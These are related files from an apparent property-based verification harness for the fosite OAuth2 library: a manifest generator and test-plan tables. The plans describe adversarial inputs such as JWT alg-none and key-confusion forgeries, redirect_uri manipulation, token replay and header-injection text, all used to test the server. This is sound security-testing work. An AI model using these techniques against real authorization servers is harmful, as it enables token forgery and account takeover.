func hasExact(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}
