#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (kept in one place so that it stays valid)."""
import json, sys

CLAIMED = {
 "C01": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model; per-step introspection invariant",
   text="Model-based generated histories (authorize/redeem/refresh/revoke/advance over 3 clients, 2 stores, HMAC/JWT, 3 refresh-scope configurations) with a three-valued reference model; every step is followed by introspection of every token ever received. Held on everything explored; not a proof.",
   note="Trusted: the reference model (transcription of the statement, DESIGN.md app. C), the harness integrator, rapid. The hybrid authorization-endpoint access token is unspecified after a replay.", ref="DESIGN.md 3, 4 C01"),
 "C02": dict(level="exploration", technique="stateful property-based testing (rapid state machine) with storage recorder against a reference model",
   text="Generated sequences of wrong and right redemption attempts per code (client, redirect_uri spelling, smuggled parameters, age) inside longer histories; refused attempts must issue nothing (storage recorder), leave the code usable, and tokens must carry exactly the consented grant.",
   note="Trusted: reference model, recorder wrapper. redirect_uri omitted at authorization => no binding expected; SanitationWhiteList left at default.", ref="DESIGN.md 4 C02"),
 "C03": dict(level="exploration", technique="property-based testing (rapid): generated attempt sequences against an RFC 7636 reference predicate",
   text="Every attempt in a generated sequence is decided by an independent reference (well-formedness + S256/plain transformation + enforcement policy), regardless of earlier attempts; both directions asserted (forbidden attempts refused, the decisive correct attempt accepted).",
   note="Trusted: refspec PKCE predicate. Enforcement may be switched on after the code was issued (operator action).", ref="DESIGN.md 4 C03"),
 "C04": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model; per-step introspection invariant",
   text="Generated refresh chains (depth up to ~10) over grants of code/hybrid/password/device origin with replays of any generation, revocations and other families in between; rotation and family-kill expectations from the statement, other grants must be unaffected.",
   note="Trusted: reference model. Family state after presenting a revoked (not used) refresh token, or with overlapping refusal reasons, is unspecified.", ref="DESIGN.md 4 C04"),
 "C05": dict(level="exploration", technique="stateful property-based testing (rapid state machine) with client-registration edits against a reference model",
   text="Generated grants x smuggled refresh parameters x presenting client x post-issuance registration edits x refresh-scope configuration; issuance rule of refresh tokens per flow and confinement of refreshed tokens to the original grant.",
   note="Trusted: reference model (issuance rule transcribed from the statement).", ref="DESIGN.md 4 C05"),
 "C07": dict(level="exploration", technique="stateful property-based testing with a virtual clock (build-time overlay) against advertised lifetimes",
   text="Short generated lifetimes and time advances around every expiry the model knows; each credential kind is presented at its endpoint and introspected on both sides of the expiry advertised in the response (+-2 s margin).",
   note="Trusted: the syntactic clock overlay (self-tested). Refusal class for expired codes/refresh tokens is not asserted (not stated by the property).", ref="DESIGN.md 2.2, 4 C07"),
 "C08": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model; per-step introspection invariant",
   text="Generated revocations at every history position (token kind incl. hybrid authorization-endpoint token, hint, caller, token state); effect, completeness (token issued alongside) and owner restriction are compared with the model after every step.",
   note="Trusted: reference model. Siblings other than the token issued alongside are unspecified; revoking an expired token leaves its sibling unspecified.", ref="DESIGN.md 4 C08"),
 "C09": dict(level="exploration", technique="stateful property-based testing: the per-step introspection invariant plus generated endpoint queries (caller credentials, hints, required scopes, token mutants)",
   text="Every token ever seen is introspected after every step of arbitrary histories and compared (active flag, kind, client, subject, scopes, audience, expiry) with the model; the endpoint is queried with every caller credential class.",
   note="Trusted: reference model. Stateless JWT introspector not in scope of revocation. Refresh-token exp not compared.", ref="DESIGN.md 4 C09"),
 "C16": dict(level="exploration", technique="stateful property-based testing (rapid state machine) on the reference store and a contract-following store",
   text="Generated device-flow histories (authorization, decision, polling by right/wrong client, replay, time advance); single-reason refusal classes, at-most-once, revocation on replay with the contract-following store, code distinctness.",
   note="Trusted: reference model, the harness TxStore (documented storage contract) and integrator-side user decision.", ref="DESIGN.md 4 C16"),
 "C17": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model",
   text="Generated push/use histories (right/wrong client, twice, after expiry, conflicting query parameters); one-time use, client binding, expiry and authority of the pushed values.",
   note="Trusted: reference model. A request_uri presented by a foreign client is unspecified afterwards.", ref="DESIGN.md 4 C17"),

 "C12": dict(level="exploration",
   technique="property-based testing (rapid) + exhaustive enumeration of the scope/audience pair domain against README-derived reference matchers; flow confinement by generated requests; native fuzzing of the strategies in the thorough tier",
   text="Generated-input search against independent reference matchers written from the README wording: exhaustive over all single-entry scope pairs up to 4/5 segments of {a,b,ab,*,''} and over an audience component table, random multi-entry haystacks, and every flow driven end-to-end with requests around the registration. Exhaustive only for the stated finite domain; elsewhere 'held on everything explored'.",
   note="Trusted: refspec (the documentation made executable), rapid, the harness world. Empty tail segments under a trailing wildcard and host/scheme letter case are treated as unspecified.",
   ref="DESIGN.md 4 C12"),
}
NOT_APPLICABLE = {}

def main():
    checks = []
    for pid in sorted(CLAIMED):
        c = CLAIMED[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": f"./check run {pid} --tier quick",
            "thorough_cmd": f"./check run {pid} --tier thorough",
            "evidence_file": f"/verif/evidence/{pid}.json",
            "replay_cmd_template": f"./check replay {pid} {{path}}",
            "engine": "verifharness",
            "level_claimed": {"category": c["level"], "text": c["text"], "design_ref": c["ref"]},
            "level_note": c["note"],
            "technique": c["technique"],
        })
    allp = [json.loads(l)["id"] for l in open("/verif/properties.jsonl")]
    na = []
    for pid in allp:
        if pid not in CLAIMED:
            na.append({"property_id": pid, "reason": NOT_APPLICABLE.get(pid, "check not built yet in this revision (property-based check planned, see DESIGN.md 4)")})
    m = {
        "version": 1,
        "setup_cmd": "./check setup",
        "hooks": {
            "guard": "none: no source hook is committed to /repo; the only instrumentation is a build-time `go test -overlay` (virtual clock) regenerated from /repo's working tree by harness/cmd/instr on every run",
            "enable": "go test -overlay <scratch>/overlay.json (done by ./check run); without the overlay the repository builds and tests exactly as upstream",
            "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off go test -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{"name": "verifharness", "path": "/verif/harness", "serves_properties": sorted(CLAIMED), "kind_free_text": "Go module: in-process fosite server driven through its public API, rapid property tests / state machines, exhaustive enumerations, native fuzz targets, -race stress; driver cmd/check shards, merges evidence, handles known findings"}],
        "checks": checks,
        "not_applicable": na,
        "notes": "Exit codes: 0 held, 1 VIOLATION line printed, 2 infrastructure problem (never a violation). VERIF_SEED selects the rapid PRNG values of every shard. Known findings: /verif/known_findings.json.",
    }
    json.dump(m, open("/verif/MANIFEST.json", "w"), indent=1)
    print("claimed:", sorted(CLAIMED), "not claimed:", [x["property_id"] for x in na])

main()
