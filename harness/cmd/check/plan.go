package main

// Job is one test function of the props package, run as `Shards` processes.
// Checks/Steps/Timeout are {quick, thorough}; Checks=0 means "not a rapid
// test" (an enumeration that shards itself via VERIF_SHARD/VERIF_NSHARDS).
type Job struct {
	Test         string
	Shards       [2]int
	Checks       [2]int
	Steps        [2]int
	Timeout      [2]int // seconds of wall clock per shard; hitting it => exit 2
	Race         bool
	ThoroughOnly bool
}

func (j Job) shards(tier string) int {
	if tier == "thorough" {
		return j.Shards[1]
	}
	return j.Shards[0]
}

type Fuzz struct {
	Target string
	Time   string
}

type Plan struct {
	ID                string
	Level             string
	Rule              string
	Assumptions       []string
	Jobs              []Job
	Fuzz              []Fuzz
	ExhaustiveWhenAll bool
}

var commonAssumptions = []string{
	"verdict is 'held on everything explored', not absence of violations",
	"trusted: Go runtime and crypto, go-jose, net/url, html/template, pgregory.net/rapid, the syntactic clock overlay (self-tested at start of every shard), the harness integrator code and reference model (DESIGN.md 2)",
	"token randomness is real crypto/rand; oracles depend only on token identity",
}

func planFor(id string) *Plan {
	for i := range plans {
		if plans[i].ID == id {
			p := plans[i]
			p.Assumptions = append(append([]string{}, commonAssumptions...), p.Assumptions...)
			return &p
		}
	}
	return nil
}

var plans = []Plan{
	{
		ID: "C20", Level: "exploration",
		Rule: "Part A: every exported RFC error value (37) and a plain Go error x hint / debug / description / state text assembled from a hostile alphabet (quotes, HTML and form-breaking markup, CR LF header text, NUL, invalid UTF-8, percent sequences, non-ASCII) with a unique canary in the debug field and another in the wrapped cause x legacy / new error format x debug exposure on / off x writer (access, PAR, authorize JSON / query / fragment / form_post, introspection, revocation): body parses (JSON, redirect parameters from the raw Location, form_post page through an HTML5 parser), error code and HTTP status match, description / hint / debug / state round-trip, canary present only when exposure is on, the wrapped cause never, no injected headers, parameters or markup, no-store / no-cache on every error and success response. Part B: generated sequences of flows (code with PKCE, hybrid, implicit, password, client credentials, device, PAR, refresh, revocation, introspection) with recognisable secrets (client secret over Basic / POST, client assertion, user password, S256 verifier, every code / token / device code the harness receives) under a storage recorder: no storage call key and no stored request-form value equals or contains one. Non-trivial: error text that needs escaping in its target context; a flow sequence in which secrets were submitted; distinct by (writer, error, format, texts) / (store, strategy, auth method, flows).",
		Jobs: []Job{
			{Test: "TestC20_ErrorWriters", Shards: [2]int{8, 12}, Checks: [2]int{1500, 40000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC20_SuccessHeaders", Shards: [2]int{1, 1}, Timeout: [2]int{900, 1800}},
			{Test: "TestC20_StorageErrorsStayInternal", Shards: [2]int{6, 8}, Checks: [2]int{800, 12000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC20_StorageSecrets", Shards: [2]int{7, 12}, Checks: [2]int{400, 6000}, Timeout: [2]int{1500, 9000}},
		},
	},

	{
		ID: "C19", Level: "exploration",
		Rule: "three engines: (1) rapid generates per-goroutine operation lists over the reference MemoryStore (create/get/delete/revoke-by-request-id/invalidate/JTI set+check on a 3-key, 2-request-id pool to force contention), runs them with real parallelism, records call/return timestamps and lets porcupine decide linearizability against a sequential specification partitioned by table; (2) every pair of the API operations authorize, redeem, refresh, revoke (refresh/access), introspect, device poll, PAR use on overlapping credentials is executed under ALL interleavings of their storage steps (the harness owns the schedule; exhaustive DFS for pairs up to a run cap, sampled triples) on both stores: no panic, no stuck schedule, every token handed out is active or was invalidated by a storage step of the other operation, no value minted twice; (3) 8 goroutines run mixed API operations on shared tokens for a fixed time under the race detector, with a fully populated and with a default-constructed Config, HMAC and JWT access tokens: race detector and concurrent-map check silent, no panic, no deadlock (watchdog). Non-trivial: a history with >=2 goroutines on the same table, a schedule whose storage steps alternate between operations, a stress run; distinct by op lists / storage-step order.",
		Assumptions: []string{"a silent race detector is evidence, not proof; schedules finer than a storage call are only sampled by engine 3"},
		Jobs: []Job{
			{Test: "TestC19_StoreLinearizable", Shards: [2]int{4, 8}, Checks: [2]int{400, 8000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC19_Interleavings", Shards: [2]int{12, 16}, Timeout: [2]int{1800, 9000}},
			{Test: "TestC19_RaceStress", Shards: [2]int{4, 4}, Timeout: [2]int{1500, 9000}, Race: true},
			{Test: "TestC19_AtomicHammer", Shards: [2]int{2, 4}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC19_StoreLinearizable", Shards: [2]int{2, 4}, Checks: [2]int{300, 4000}, Timeout: [2]int{1500, 9000}, Race: true},
		},
	},

	{
		ID: "C18", Level: "fault_enumeration", ExhaustiveWhenAll: false,
		Rule: "for each of 14 flows (code redemption with PKCE and OpenID Connect, refresh, refresh-reuse handling, device poll, implicit, hybrid, authorization-code issuance, client credentials, password, JWT bearer, revocation by refresh token, revocation by access token, PAR push, PAR use) the storage-call list of the request is recorded from a fault-free run on the tree under test; then EVERY call index x EVERY failure kind (generic error, not-found, inactive, serialization conflict, crash = the call and everything after never happen, open transaction discarded) x {reference store, transactional store with real rollback} is executed, each followed by an attack step (e.g. redeem without the PKCE verifier, foreign client), a retry by the legitimate holder and a replay; pairs (a second fault in the retry) are sampled by rapid. Oracle: refused responses carry nothing, unexpected failures refuse the request, refresh serialization conflicts are not server_error, Begin/Commit/Rollback grammar, snapshot of all code/token tables equals the pre-request snapshot when the failure is inside the issuing transaction and the retry then succeeds, single-use credentials are exchanged at most once, the attack step stays refused, a revocation answered with success after a failed write has left no token of the grant active, every write between BeginTX and Commit carries the context BeginTX returned and Commit/Rollback carry it too. Non-trivial: the fault index lies inside the issuing transaction, or the fault is followed by a successful retry; distinct by (flow, store, index, kind).",
		Jobs: []Job{
			{Test: "TestC18_SingleFaults", Shards: [2]int{16, 16}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC18_FaultPairs", Shards: [2]int{4, 16}, Checks: [2]int{150, 6000}, Timeout: [2]int{1500, 9000}},
		},
	},

	{
		ID: "C15", Level: "exploration",
		Rule: "(A) private_key_jwt client assertions and (B) JWT-bearer grants built from a valid claim set by 0-2 named defects (each claim absent / wrong type / wrong value / boundary time, exp in {0, 0.5, -1, past, string}, alg none / HS256 / RS384 / PS256 / ES256, kid right / absent / unknown, key registered / another client's or subject's / unregistered, scope outside the key's scopes, option flags for optional iat / jti, max duration, client authentication) presented inside short histories with replays of accepted assertions and time advances; oracle: a list of must-refuse reasons derived from the statement - acceptance with a non-empty list is a violation, a defect-free assertion must be accepted; (C) schedules: 2 (exhaustive) or 3 (bounded DFS) simultaneous presentations of the same assertion with the harness owning the order of their storage steps - exactly one succeeds; (D) free-running: 6 goroutines present one fresh assertion (client assertion at the token endpoint, JWT-bearer grant, SetClientAssertionJWT at the reference store) at the same instant, thousands of rounds with real parallelism - at most one is accepted (reaches non-atomicity inside one storage call, below the schedule engine's resolution); client assertions are presented at the token, PAR, revocation and device-authorization endpoints, with lifetimes up to 3 days against a configured JWT-bearer maximum of 2 min / 1 h / 24 h. Non-trivial: an assertion with exactly one must-refuse reason, a replay, or a schedule in which the storage steps of different presentations alternate; distinct by defect lists / storage-step order.",
		Jobs: []Job{
			{Test: "TestC15_ClientAssertions", Shards: [2]int{6, 8}, Checks: [2]int{600, 10000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC15_JWTBearer", Shards: [2]int{6, 8}, Checks: [2]int{600, 10000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC15_Schedules", Shards: [2]int{8, 8}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC15_ConcurrentPresentations", Shards: [2]int{3, 6}, Timeout: [2]int{1500, 9000}},
		},
	},

	{
		ID: "C14", Level: "exploration",
		Rule: "every OpenID Connect flow (code, id_token, id_token token, the three hybrid types, device, plus refresh) x signing key (RSA, P-256 as raw key and as JWK, P-384 / P-521 JWK with the matching alg header) x configured ID-token lifetime x session (subject empty or not, auth_time before / equal / after requested_at or absent, pre-set expiry future / past, session issuer, extra claims that collide with reserved names) x request (nonce incl. URL-special characters, max_age, prompt, id_token_hint own / other subject / expired / garbage / foreign key, openid consented or not) on both stores; oracle: every ID token found in any response is verified with the public key and checked for alg, aud, sub, iss, nonce, exp window, at_hash / c_hash against the access token / code of the same response (left-half hash chosen by alg, computed independently), c_hash absent on refresh, and no ID token may exist when a stated blocker holds; TestC14_Strategy calls openid.DefaultStrategy.GenerateIDToken itself with generated sessions and forms (grant_type absent / code / device / refresh) and demands a refusal for every unmet max_age, prompt or id_token_hint condition outside refreshes. Non-trivial: at least one ID token was issued and checked, or exactly one blocker holds; distinct by (key, flow, session shape, request shape, count).",
		Jobs: []Job{{Test: "TestC14_IDTokens", Shards: [2]int{16, 16}, Checks: [2]int{900, 8000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC14_Strategy", Shards: [2]int{4, 8}, Checks: [2]int{1500, 10000}, Timeout: [2]int{900, 3000}}},
	},

	{
		ID: "C13", Level: "exploration",
		Rule: "generated client registration (registered response-type combinations incl. reordered ones, grant types, response modes, public flag, request-object algorithm, JWKS, request_uris) x request (response_type multiset with reordering / duplicates / case / unknown members, response_mode incl. junk, state and nonce lengths around the threshold and with URL/HTML-special characters, scope with/without openid, redirect_uri present/absent, request object signed by registered / unregistered / another client's key, alg none, HS256, garbage, by value or by registered / unregistered request_uri); oracle: acceptance implies every stated condition (computed independently), request-object parameters are honoured only if verifiable, no access_token / id_token in any Location query, access tokens only with the implicit grant, a code never redeemable without the authorization_code grant, state echoed byte-identical. Non-trivial: exactly one rule unmet, or an accepted request with an explicit response mode, or a honoured request object; distinct by (type set, mode, lengths, flags, object kind, outcome).",
		Jobs: []Job{{Test: "TestC13_AuthorizeValidation", Shards: [2]int{16, 16}, Checks: [2]int{1200, 15000}, Timeout: [2]int{1500, 9000}}},
	},

	{
		ID: "C11", Level: "exploration",
		Rule: "generated registration of 1-4 redirect URIs from a component grammar (https/http/custom/opaque schemes, names, IPv4/IPv6 loopback and non-loopback literals, localhost names, ports, paths, queries) x requested redirect_uri built from a registered one by 0-2 named near-miss edits (case, trailing slash, port, look-alike host, localhost swap, userinfo insertion/confusion, path append/dot-dot/case/percent-encoding, query add/reorder/drop, fragment, scheme swap, relative, empty, backslash, whitespace, IPv6/IPv4-mapped loopback) x response type x response mode x an error injected before (unknown client) or after (scope, state, response type/mode, audience, consent denied) redirect validation, also through PAR; oracle on the written bytes: the base of any Location / form action is string-identical to a registered URI or satisfies the loopback rule (netip), no fragment of its own, absolute; a request whose redirect_uri does not qualify per an independent component-level reference gets no redirect; codes never go to plain-http non-local targets. Non-trivial: requested URI differs from every registered string, or an error is injected after validation; distinct by (edits, type, mode, injected error, outcome).",
		Jobs: []Job{{Test: "TestC11_RedirectTargets", Shards: [2]int{16, 16}, Checks: [2]int{1500, 15000}, Timeout: [2]int{1500, 9000}}},
		Fuzz: []Fuzz{{Target: "FuzzC11RedirectMatch", Time: "90s"}},
	},

	{
		ID: "C10", Level: "exploration",
		Rule: "generated client registration (plain / OpenID Connect client with each token_endpoint_auth_method incl. unsupported ones, public or confidential, 0-3 rotated secrets, client ids and secrets with URL-special and non-ASCII characters, real bcrypt) x credential transport (Basic form-encoded, Basic raw, body, both, neither, id only, malformed header, client assertion by registered / unregistered key) x secret relation (current, rotated, wrong, empty, other client's, the stored hash, prefix, extended) x endpoint (token with client_credentials / authorization_code / refresh_token / password / device_code / jwt-bearer, revocation, PAR, device authorization), each request otherwise valid; oracle: necessary condition computed independently (a transport the method permits carried a valid secret or a valid assertion), refused requests must be invalid_client/invalid_request and must not write code/token records (storage recorder), canonical valid credentials must pass. Non-trivial: the client is confidential (the request reaches method gating / secret comparison); distinct by (registration, endpoint, transport, relation).",
		Jobs: []Job{{Test: "TestC10_ClientAuthentication", Shards: [2]int{16, 16}, Checks: [2]int{2500, 12000}, Timeout: [2]int{1500, 9000}}},
	},

	{
		ID: "C06", Level: "exploration",
		Rule: "four generated domains: (A) HMAC layer - generated secret configuration (current + 0-3 rotated, optional too-short secret at any position, custom hash, entropy) x minting secret relation (current, rotated, foreign, equal in the first 32 bytes, short secret zero-padded) x one named edit (bit flip in either decoded part, truncation/extension, part swap between tokens, dot/padding/newline/alphabet/trailing-bit re-encodings) compared in both directions with a reference that recomputes the MAC over the decoded parts; (B) end to end - code, access, refresh and device code with one named edit (incl. other random part with a stored signature, foreign secret, prefix changes, secret rotation kept/dropped) presented where it is consumed; (C) JWT access tokens - alg none/None, HS256 keyed with the public key, other key, payload/header edits with the original signature, signature swaps, JSON serialisation - against the storage-backed and the stateless introspector; (D) minting - thousands of values per kind: distinct, configured entropy, no constant byte, no biased bit. Non-trivial: any case with an edit, a non-current minting secret or a short secret configured; distinct by (layer, edit, relation, configuration shape).",
		Jobs: []Job{
			{Test: "TestC06_HMACLayer", Shards: [2]int{6, 12}, Checks: [2]int{3000, 100000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC06_EndToEnd", Shards: [2]int{6, 12}, Checks: [2]int{1000, 10000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC06_JWT", Shards: [2]int{4, 8}, Checks: [2]int{800, 6000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC06_Minting", Shards: [2]int{18, 18}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC06_ConcurrentMinting", Shards: [2]int{2, 4}, Timeout: [2]int{1500, 9000}},
		},
		Fuzz: []Fuzz{{Target: "FuzzC06HMACValidate", Time: "60s"}},
	},

	{
		ID: "C02", Level: "exploration",
		Rule: "state machine weighted to sequences of redemption attempts on live codes: foreign confidential/public client, wrong secret, redirect_uri absent/equal/different/re-encoded (trailing slash, host case, %-encoding, default port, extra query), smuggled scope/audience parameters, code ages on both sides of the (short) code lifetime, followed by the rightful attempt; Recorder asserts that a refused attempt creates no token record; per-step introspection compares every token's client/subject/scopes/audience with what consent granted. Non-trivial: a rightful redemption after >=1 refused attempt, or a refused attempt in a history with smuggled parameters.",
		Jobs: []Job{{Test: "TestC02_CodeBinding", Shards: [2]int{16, 16}, Checks: [2]int{400, 4000}, Steps: [2]int{30, 60}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C03", Level: "exploration",
		Rule: "for one code: generated enforcement configuration (off/public/all x plain on/off), public/confidential client, code and hybrid response types, challenge present/absent, method S256/plain/''/unknown, then a sequence of 1-6 redemption attempts drawn from {no verifier, wrong, 42 chars, 129 chars, illegal character, verifier for the other method, the challenge string itself, correct} in any order followed by the decisive correct attempt; oracle: RFC 7636 reference (well-formedness + transformation) decides every attempt independently of earlier ones. Non-trivial: at least one failed attempt before the decisive one (or an authorization request the policy must refuse); distinct by configuration and attempt-kind sequence.",
		Jobs: []Job{{Test: "TestC03_PKCE", Shards: [2]int{16, 16}, Checks: [2]int{1200, 10000}, Timeout: [2]int{1500, 9000}}},
	},

	{
		ID: "C01", Level: "exploration",
		Rule: "rapid state machine over authorize/redeem/refresh/revoke/password/advance on a real in-process provider (reference MemoryStore and a contract-following transactional store, HMAC and JWT access tokens, three refresh-scope configurations, plain and hybrid codes, three clients); after every step every token ever received is introspected and compared with a reference model transcribed from the statement. Non-trivial: the history replays a successfully redeemed code (single refusal reason); distinct by the sequence of (action, refusal-reason) kinds.",
		Jobs: []Job{{Test: "TestC01_CodeSingleUse", Shards: [2]int{16, 16}, Checks: [2]int{400, 4000}, Steps: [2]int{30, 60}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C04", Level: "exploration",
		Rule: "same state machine weighted to refresh chains (grants from code, hybrid, password and device origins), replays of any earlier generation, revocations in between, several families alive; per-step introspection of every token against the model. Non-trivial: chain depth >= 2 and a replay of a used refresh token; distinct by the (action, refusal-reason) sequence.",
		Jobs: []Job{{Test: "TestC04_RefreshRotation", Shards: [2]int{16, 16}, Checks: [2]int{400, 4000}, Steps: [2]int{30, 70}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C05", Level: "exploration",
		Rule: "state machine with refresh requests that smuggle scope/audience, foreign presenters, and post-issuance edits of the client registration (scope, audience, refresh_token grant removed/restored), under the three refresh-scope configurations; oracle: issuance rule for refresh tokens per flow, refresh honoured only while the model says the client still covers the grant, new tokens carry the original grant. Non-trivial: a refresh that differs from the grant (smuggled parameter, edited client or foreign presenter).",
		Jobs: []Job{{Test: "TestC05_RefreshConfinement", Shards: [2]int{16, 16}, Checks: [2]int{400, 4000}, Steps: [2]int{30, 60}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C08", Level: "exploration",
		Rule: "state machine weighted to revocation at every history position: token kind (incl. the hybrid authorization-endpoint access token), hint right/wrong/garbage/absent, caller owner/foreign/wrong secret, tokens live/rotated/revoked/killed; per-step introspection of all tokens. Non-trivial: revocation of a live token that has a live sibling, or a refused / no-op revocation in a history with refreshes; distinct by the (action, caller, state) sequence.",
		Jobs: []Job{{Test: "TestC08_Revocation", Shards: [2]int{16, 16}, Checks: [2]int{400, 4000}, Steps: [2]int{30, 60}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C09", Level: "exploration",
		Rule: "the per-step invariant itself (IntrospectToken on every token of the model: active flag, kind, client, subject, scopes, audience, expiry) plus the introspection endpoint with every caller credential (basic right/wrong/public, bearer live/dead/identical/refresh, none), hints, required-scope lists and one-edit token mutants, over arbitrary histories with short lifetimes. Non-trivial: an endpoint query in a history that contains a state change (refresh, revocation, replay); distinct by the action sequence incl. caller kind and expected state.",
		Jobs: []Job{{Test: "TestC09_Introspection", Shards: [2]int{16, 16}, Checks: [2]int{400, 4000}, Steps: [2]int{35, 70}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C16", Level: "exploration",
		Rule: "state machine over device authorization, user decision (accept with full/partial consent, reject, none), polling by the right or a wrong client, replay after success and time advance, on the reference store and on the contract-following store. Non-trivial: a replay after success, or a decision followed by a refused poll; distinct by the (action, refusal-reason) sequence.",
		Jobs: []Job{{Test: "TestC16_DeviceHistories", Shards: [2]int{16, 16}, Checks: [2]int{700, 5000}, Steps: [2]int{30, 60}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C17", Level: "exploration",
		Rule: "state machine over push / authorize-with-request_uri (right client, wrong client, twice, after expiry, with conflicting query parameters) and redemption of the resulting codes. Non-trivial: a use that is refused, or a successful use with conflicting query parameters; distinct by the (action, refusal-reason) sequence.",
		Jobs: []Job{{Test: "TestC17_PARHistories", Shards: [2]int{16, 16}, Checks: [2]int{700, 5000}, Steps: [2]int{30, 60}, Timeout: [2]int{1500, 9000}}},
	},
	{
		ID: "C07", Level: "exploration",
		Rule: "state machine with short generated lifetimes (code, access, refresh incl. -1, device, PAR) and time advances drawn from seconds..days and from just before / just past the next expiry known to the model; every credential is presented at its endpoint and introspected on both sides of the expiry advertised in the response. Non-trivial: a credential refused or reported inactive because it expired inside the history. Second job (lifespans): generated server defaults (access / refresh incl. -1 / ID token) x per-client overrides set independently for each of the 12 (grant, token type) pairs with pairwise distinct values x flow (code, implicit, client credentials, password, JWT bearer, device, followed by refresh): expires_in, introspected exp and the ID token exp must equal override-else-default for exactly that pair, and the newest access and refresh token are introspected 4 s before and 4 s after the advertised instant (unlimited refresh tokens after 400 days); non-trivial there: at least one override in force and a token issued. Third job: client assertions and JWT-bearer assertions with lifetimes of 5 s .. 1 h presented at -3, +3, +10 .. +86400 s relative to their exp (fresh jti each time): accepted before, refused after.",
		Jobs: []Job{
			{Test: "TestC07_ExpiryHistories", Shards: [2]int{12, 16}, Checks: [2]int{350, 4000}, Steps: [2]int{35, 70}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC07_Lifespans", Shards: [2]int{6, 12}, Checks: [2]int{400, 10000}, Timeout: [2]int{1500, 9000}},
			{Test: "TestC07_AssertionExpiry", Shards: [2]int{2, 4}, Checks: [2]int{400, 10000}, Timeout: [2]int{1500, 9000}},
		},
	},

	{
		ID: "C12", Level: "exploration", ExhaustiveWhenAll: false,
		Rule: "Part A: every (haystack, needle) pair over the segment alphabet {a,b,ab,*,''} up to 4 (quick) / 5 (thorough) segments is compared against matchers written from the README wording (exhaustive for that domain), multi-entry haystacks and audience URL pairs are generated from components; Part B: every flow is driven with requests whose scopes/audiences are generated around the client's registration under each strategy. Non-trivial: a pair on which the three scope strategies do not all agree, an audience pair that differs from the registered URL in exactly one component, or a flow request with at least one covered and one uncovered scope/audience. Distinct: by normalised pair / (flow, strategy, request shape).",
		Jobs: []Job{
			{Test: "TestC12_StrategiesExhaustive", Shards: [2]int{8, 16}, Timeout: [2]int{900, 6000}},
			{Test: "TestC12_StrategiesGenerated", Shards: [2]int{2, 4}, Checks: [2]int{3000, 60000}, Timeout: [2]int{900, 6000}},
			{Test: "TestC12_Confinement", Shards: [2]int{6, 12}, Checks: [2]int{400, 8000}, Timeout: [2]int{900, 6000}},
		},
		Fuzz: []Fuzz{{Target: "FuzzC12ScopeStrategies", Time: "60s"}},
	},
}
