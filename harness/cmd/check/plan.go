package main

// Job is one test function of the props package, run as `Shards` processes.
// Checks/Steps/Timeout are {quick, thorough}; Checks=0 means "not a rapid
// test" (an enumeration that shards itself via VERIF_SHARD/VERIF_NSHARDS).
type Job struct {
	Test         string
	Shards       [2]int
	Checks       [2]int
	Steps        [2]int
	Timeout      [2]int // seconds of wall clock per shard; hitting it => exit 2
	Race         bool
	ThoroughOnly bool
}

func (j Job) shards(tier string) int {
	if tier == "thorough" {
		return j.Shards[1]
	}
	return j.Shards[0]
}

type Fuzz struct {
	Target string
	Time   string
}

type Plan struct {
	ID                string
	Level             string
	Rule              string
	Assumptions       []string
	Jobs              []Job
	Fuzz              []Fuzz
	ExhaustiveWhenAll bool
}

var commonAssumptions = []string{
	"verdict is 'held on everything explored', not absence of violations",
	"trusted: Go runtime and crypto, go-jose, net/url, html/template, pgregory.net/rapid, the syntactic clock overlay (self-tested at start of every shard), the harness integrator code and reference model (DESIGN.md 2)",
	"token randomness is real crypto/rand; oracles depend only on token identity",
}

func planFor(id string) *Plan {
	for i := range plans {
		if plans[i].ID == id {
			p := plans[i]
			p.Assumptions = append(append([]string{}, commonAssumptions...), p.Assumptions...)
			return &p
		}
	}
	return nil
}

var plans = []Plan{
	{
		ID: "C12", Level: "exploration", ExhaustiveWhenAll: false,
		Rule: "Part A: every (haystack, needle) pair over the segment alphabet {a,b,ab,*,''} up to 4 (quick) / 5 (thorough) segments is compared against matchers written from the README wording (exhaustive for that domain), multi-entry haystacks and audience URL pairs are generated from components; Part B: every flow is driven with requests whose scopes/audiences are generated around the client's registration under each strategy. Non-trivial: a pair on which the three scope strategies do not all agree, an audience pair that differs from the registered URL in exactly one component, or a flow request with at least one covered and one uncovered scope/audience. Distinct: by normalised pair / (flow, strategy, request shape).",
		Jobs: []Job{
			{Test: "TestC12_StrategiesExhaustive", Shards: [2]int{8, 16}, Timeout: [2]int{300, 1500}},
			{Test: "TestC12_StrategiesGenerated", Shards: [2]int{2, 4}, Checks: [2]int{3000, 60000}, Timeout: [2]int{300, 1500}},
			{Test: "TestC12_Confinement", Shards: [2]int{6, 12}, Checks: [2]int{400, 8000}, Timeout: [2]int{300, 1500}},
		},
		Fuzz: []Fuzz{{Target: "FuzzC12ScopeStrategies", Time: "60s"}},
	},
}
